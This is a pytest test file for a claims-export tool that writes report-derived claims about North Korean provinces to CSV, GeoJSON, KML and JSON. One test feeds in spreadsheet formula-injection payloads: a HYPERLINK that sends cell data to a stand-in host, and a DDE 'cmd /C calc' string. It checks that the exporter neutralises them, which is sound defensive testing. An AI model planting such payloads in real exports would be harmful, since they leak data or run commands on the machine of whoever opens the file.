"""Data exports, each read back with a real parser: CSV (csv module), GeoJSON (geopandas), KML (ElementTree),
the claims JSON; written whole or not at all, with the mode of any new file, rejected claims never in them."""

import csv
import json
import os
import xml.etree.ElementTree as ET
from dataclasses import replace
from pathlib import Path

import geopandas as gpd
import pytest

from claimline.corpus import Corpus, default_corpus_paths
from claimline.export import NothingToExport, export
from claimline.export.data import CSV_COLUMNS, write_claims_csv, write_claims_json
from claimline.export.files import ExportError
from claimline.export.gis import write_claims_geojson, write_claims_kml
from claimline.filtering import Filter, Workspace
from claimline.geo.shapes import load_provinces
from claimline.review import edits

SYNTHETIC = [Path(__file__).resolve().parents[1] / "tests" / f"heldout{suffix}" for suffix in
             ("", "_b", "_c", "_d", "_e", "_f", "_g", "_h")]  # the repository's own synthetic reports
KML = "{http://www.opengis.net/kml/2.2}"


@pytest.fixture(scope="module")
def corpus() -> Corpus:
    return Corpus.load(default_corpus_paths())


@pytest.fixture(scope="module")
def reports(corpus):
    return {e.report.path: e.report for e in corpus.extractions}.get


def read_csv(path: Path) -> list[dict]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "a BOM, so spreadsheet programs read UTF-8"
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_has_one_row_per_claim_with_its_citation_and_review(corpus, reports, tmp_path):
    out = tmp_path / "claims.csv"
    graded = replace(corpus.claims[0], status="accepted", reliability="B", credibility=2, tags=("fuel", "평양"),
                     note="check with the March report")
    write_claims_csv([graded, *corpus.claims[1:]], reports, out)
    rows = read_csv(out)
    assert tuple(rows[0]) == CSV_COLUMNS
    assert [r["quote"] for r in rows] == [c.quote for c in corpus.claims]
    first = rows[0]
    assert (first["start"], first["provinces"], first["outlet"], first["published"]) == (
        "2018-10-01", "KP-03", "Daily NK", "2018-10")
    assert (first["id"], first["status"], first["grade"], first["tags"], first["note"]) == (
        graded.id, "accepted", "B2", "fuel;평양", "check with the March report")
    inferred = [r for r in rows if r["inferred_provinces"]]
    assert inferred and all(r["provinces"] == "" for r in inferred)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(corpus, reports, tmp_path):
    hostile = replace(corpus.claims[0], quote='=HYPERLINK("http://x.example/?"&A1,"click")', source="+cmd|' /C calc'!A0",
                      note="-2+3", tags=("@SUM(1)",))
    tab = replace(corpus.claims[1], quote="\tleading tab", source="\rleading return", note="a - b = c")
    out = tmp_path / "hostile.csv"
    write_claims_csv([hostile, tab], reports, out)
    first, second = read_csv(out)
    assert first["quote"] == "'" + hostile.quote
    assert (first["source"], first["note"], first["tags"]) == ("'" + hostile.source, "'-2+3", "'@SUM(1)")
    assert (second["quote"], second["source"]) == ("'\tleading tab", "'\rleading return")
    assert second["note"] == "a - b = c", "only a cell that starts with a formula character is touched"
    assert first["start"] == hostile.when.start.isoformat()


def test_json_export_is_the_claims_document(corpus, tmp_path):
    out = tmp_path / "claims.json"
    write_claims_json(corpus, out)
    assert json.loads(out.read_text(encoding="utf-8")) == json.loads(json.dumps(corpus.to_json()))


def test_json_export_of_a_filter_keeps_only_its_claims_and_their_reports(tmp_path):
    corpus = Corpus.load(SYNTHETIC)
    workspace = Workspace(corpus)
    workspace.set_filter(Filter(provinces=frozenset({"KP-10"})))
    out = tmp_path / "ryanggang.json"
    count = export("claims", workspace, out)
    doc = json.loads(out.read_text(encoding="utf-8"))
    claims = [c for r in doc["reports"] for c in r["claims"]]
    assert count == len(claims) == len(workspace.filtered_claims())
    assert all(any(p["code"] == "KP-10" for p in c["places"]) for c in claims)
    assert all(r["claims"] for r in doc["reports"]), "reports without a Ryanggang claim are left out"
    assert len(doc["reports"]) < len(corpus.extractions)


def test_geojson_reads_back_with_geopandas_as_claims_at_label_points_and_provinces(corpus, reports, tmp_path):
    out = tmp_path / "claims.geojson"
    write_claims_geojson(corpus.claims, reports, out)
    frame = gpd.read_file(out)
    assert frame.crs.to_epsg() == 4326
    claims, provinces = frame[frame["kind"] == "claim"], frame[frame["kind"] == "province"]
    assert len(claims) == len(corpus.claims) and len(provinces) == 11
    first = claims.iloc[0]
    assert (first["quote"], first["precision"], first["status"]) == (corpus.claims[0].quote,
                                                                      corpus.claims[0].when.precision, "extracted")
    assert (first["report_title"], first["outlet"]) == (reports(corpus.claims[0].report_path).title, "Daily NK")
    assert str(first["start"])[:10] == "2018-10-01"
    label = load_provinces().set_index("code").loc["KP-03"]
    point = first.geometry.geoms[0]
    assert (round(point.x, 3), round(point.y, 3)) == (round(label.label_lon, 3), round(label.label_lat, 3))
    counts = dict(zip(provinces["code"], provinces["claims"], strict=True))
    assert counts["KP-03"] == sum(1 for c in corpus.claims if "KP-03" in c.province_codes) > 0
    assert set(provinces.geometry.geom_type) == {"MultiPolygon"}
    assert provinces.set_index("code").loc["KP-03"].geometry.contains(point)


def test_kml_has_a_placemark_with_a_time_span_for_each_dated_placed_claim(corpus, reports, tmp_path):
    out = tmp_path / "claims.kml"
    write_claims_kml(corpus.claims, reports, out, name="Sinuiju fuel")
    root = ET.parse(out).getroot()
    assert root.tag == KML + "kml"
    assert root.find(f"{KML}Document/{KML}name").text == "Sinuiju fuel"
    placemarks = root.findall(f".//{KML}Placemark")
    expected = [c for c in corpus.claims if c.when.resolved and c.places]
    assert len(placemarks) == len(expected) > 0
    for placemark, claim in zip(placemarks, expected, strict=True):
        span = placemark.find(f"{KML}TimeSpan")
        assert (span.find(f"{KML}begin").text, span.find(f"{KML}end").text) == (
            claim.when.start.isoformat(), claim.when.end.isoformat())
        assert claim.quote in placemark.find(f"{KML}description").text
        coordinates = [p.text for p in placemark.iter(f"{KML}coordinates")]
        assert len(coordinates) == len(claim.places)
        lon, lat = map(float, coordinates[0].split(","))
        assert 124 < lon < 131 and 37 < lat < 43.1


def rejected_first(corpus: Corpus) -> tuple[Corpus, str]:
    """The corpus with its first claim rejected, and that claim's id."""
    claim = corpus.claims[0]
    return corpus.with_review(edits.set_status(corpus.review, claim, "rejected").applied(corpus.review)), claim.id


def test_no_data_export_holds_a_rejected_claim_even_while_they_are_shown(corpus, tmp_path):
    reviewed, rejected = rejected_first(corpus)
    workspace = Workspace(reviewed)
    workspace.set_filter(Filter(show_rejected=True))
    assert rejected in {c.id for c in workspace.filtered_claims()}
    for suffix in (".csv", ".geojson", ".kml", ".json"):
        out = tmp_path / f"claims{suffix}"
        export("claims", workspace, out)
        assert rejected not in out.read_text(encoding="utf-8-sig"), suffix


def test_an_empty_selection_writes_nothing(corpus, tmp_path):
    workspace = Workspace(corpus)
    workspace.set_filter(Filter(provinces=frozenset({"KP-13"})))
    with pytest.raises(NothingToExport, match="Rason"):
        export("claims", workspace, tmp_path / "none.csv")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("umask", [0o022, 0o077, 0o002])
def test_every_data_export_gets_the_mode_of_a_new_file(corpus, tmp_path, umask):
    workspace = Workspace(corpus)
    old = os.umask(umask)
    try:
        for suffix in (".csv", ".geojson", ".kml", ".json"):
            out = tmp_path / f"claims{suffix}"
            export("claims", workspace, out)
            assert out.stat().st_mode & 0o777 == 0o666 & ~umask, suffix
    finally:
        os.umask(old)


def test_a_failed_write_leaves_nothing_behind(corpus, tmp_path):
    folder = tmp_path / "gone"
    with pytest.raises(ExportError, match="does not exist"):
        write_claims_json(corpus, folder / "claims.json")
    existing = tmp_path / "claims.json"
    existing.write_text("previous export", encoding="utf-8")
    bad = Corpus(corpus.extractions)
    bad.to_json = lambda **_: {"x": object()}  # cannot be serialised
    with pytest.raises(TypeError):
        write_claims_json(bad, existing)
    assert existing.read_text(encoding="utf-8") == "previous export"
    assert list(Path(tmp_path).iterdir()) == [existing]
